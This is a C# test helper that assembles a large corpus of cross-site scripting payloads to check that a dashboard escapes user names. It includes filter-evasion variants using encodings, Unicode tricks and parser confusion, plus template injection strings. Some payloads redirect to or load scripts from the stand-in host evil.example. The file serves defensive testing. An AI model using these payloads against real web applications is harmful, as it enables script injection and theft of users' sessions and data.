using System.Collections.Immutable;
using System.Globalization;

namespace OgpDashboard.Tests.Attacks;

/// <summary>Texts that are scripts wherever somebody forgot to say that they are texts. Each would do something that is seen: set a variable, ask, or call out.</summary>
internal static class XssCorpus
{
    // What a script does that runs; the number tells which one it was.
    private static readonly string[] Deeds =
    [
        "window.__xss={0}", "alert({0})", "fetch('/xss-hit/{0}')", "top.__xss={0}", "confirm({0})", "import('/xss-hit/{0}')", "location='//evil.example/{0}'",
    ];

    // §: what it does.
    private static readonly string[] Shapes =
    [
        // Elements that run or load by themselves.
        "<script>§</script>", "<SCRIPT>§</SCRIPT>", "<script >§</script >", "<script\n>§</script\t>", "<script/x>§</script>", "<script>§", "<scr<script>ipt>§</script>",
        "<script src=//evil.example/x></script>", "<script type=module>§</script>", "<script type=importmap>{\"imports\":{\"x\":\"//evil.example\"}}</script>",
        "<img src=x onerror=§>", "<img src=x onerror=\"§\">", "<img/src/onerror=§>", "<img src=x onerror='§' //", "<IMG SRC=x OnErRoR=§>", "<img src=/xss-hit/img>",
        "<svg onload=§>", "<svg/onload=§//", "<svg><script>§</script></svg>", "<svg><animate onbegin=§ attributeName=x dur=1s>", "<svg><use href=/xss-hit/use#x>",
        "<svg><a xlink:href=javascript:§><text>x</text></a></svg>", "<math href=javascript:§>x</math>", "<body onload=§>", "<iframe src=javascript:§>", "<iframe srcdoc='<script>§</script>'>",
        "<object data=javascript:§>", "<embed src=javascript:§>", "<details open ontoggle=§>", "<input autofocus onfocus=§>", "<video><source onerror=§>", "<audio src=x onerror=§>",
        "<marquee onstart=§>", "<style>@import'/xss-hit/css'</style>", "<link rel=stylesheet href=/xss-hit/css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=/xss-hit/meta>",
        "<form action=javascript:§><button autofocus>x</button></form>", "<a href=javascript:§>x</a>", "<template><script>§</script></template>", "<x onclick=§ tabindex=1 autofocus onfocus=§>",

        // Ways out of an attribute, of an element that holds text, of a script, of a comment.
        "\"><script>§</script>", "'><script>§</script>", "`><script>§</script>", "\" onmouseover=§ x=\"", "' autofocus onfocus=§ x='", "\" style=\"background:url(/xss-hit/style)\" x=\"", "x onfocus=§ autofocus",
        "</textarea><script>§</script>", "</title><script>§</script>", "</style><script>§</script>", "</script><script>§</script>", "</option></select><img src=x onerror=§>", "</svg><script>§</script>",
        "</noscript><script>§</script>", "--><script>§</script><!--", "--!><script>§</script>", "]]><script>§</script>", "</main></body><script>§</script>", "';§//", "\";§//", "\\\";§//", "${§}", "`${§}`", "\u2028§//",
        "\"}</script><script>§</script>", "}};§;var x={{", "{\"__proto__\":{\"x\":\"<img src=x onerror=§>\"}}",

        // Marks and templates of frameworks.
        "<!--Blazor:{\"type\":\"server\",\"sequence\":0,\"descriptor\":\"§\"}-->", "<!--Blazor-Server-Component-State:§-->", "<!--bl:1--><script>§</script><!--/bl:1-->", "@(§)", "@{§}", "{{7*7}}{{§}}",
        "{{constructor.constructor('§')()}}", "[[§]]", "<%= § %>", "#{§}", "{0}{1}{2}§", "%s%n§",

        // What a parser makes another of, and what a filter does not see.
        "<math><mtext><table><mglyph><style><img src=x onerror=§>", "<svg></p><style><a id=\"</style><img src=x onerror=§>\">", "<noscript><p title=\"</noscript><img src=x onerror=§>\">", "<table><td><svg><desc><script>§</script>",
        "&lt;script&gt;§&lt;/script&gt;", "&#60;script&#62;§&#60;/script&#62;", "&#x3c;img src=x onerror=§&#x3e;", "%3Cscript%3E§%3C/script%3E", "\\u003cscript\\u003e§\\u003c/script\\u003e", "\\x3cimg src=x onerror=§\\x3e",
        "<scr\0ipt>§</script>", "<img src=x on\0error=§>", "<\u200Bscript>§</script>", "<script\uFEFF>§</script>", "＜script＞§＜/script＞", "‹script›§‹/script›", "<ſcript>§</ſcript>", "+ADw-script+AD4-§+ADw-/script+AD4-",
        "\u202E<script>§</script>\u202C", "<scr\u202Eipt>§</script>", "\u2066\"><img src=x onerror=§>\u2069", "\u200F' onfocus=§ autofocus \u200E", "\u2067\u202D\u061C</textarea><svg onload=§>", "e\u0301<svg onload=§>",

        // Addresses.
        "javascript:§", "JaVaScRiPt:§", "java\tscript:§", "javascript&colon;§", "\u0001javascript:§", "//evil.example/§", "data:text/html,<script>§</script>", "vbscript:§", "url(javascript:§)", "expression(§)", "/\\evil.example/§",
    ];

    /// <summary>All of them, distinct, none longer than a name may be.</summary>
    public static readonly ImmutableArray<string> All =
    [
        .. Shapes.SelectMany((shape, i) => new[] { i, i + 3 }.Select(d => Make(shape, d % Deeds.Length, 1000 + (i * 10) + (d - i))))
            .Distinct(StringComparer.Ordinal).Where(s => s.Length <= Domain.People.Person.LongestName),
    ];

    /// <summary>One in so many of them, for places where each costs a whole page and where the same code writes what others write in full.</summary>
    public static IEnumerable<string> OneIn(int each) => All.Where((_, i) => i % each == 0);

    private static string Make(string shape, int deed, int number) =>
        shape.Replace("§", Deeds[deed].Replace("{0}", number.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal), StringComparison.Ordinal);
}
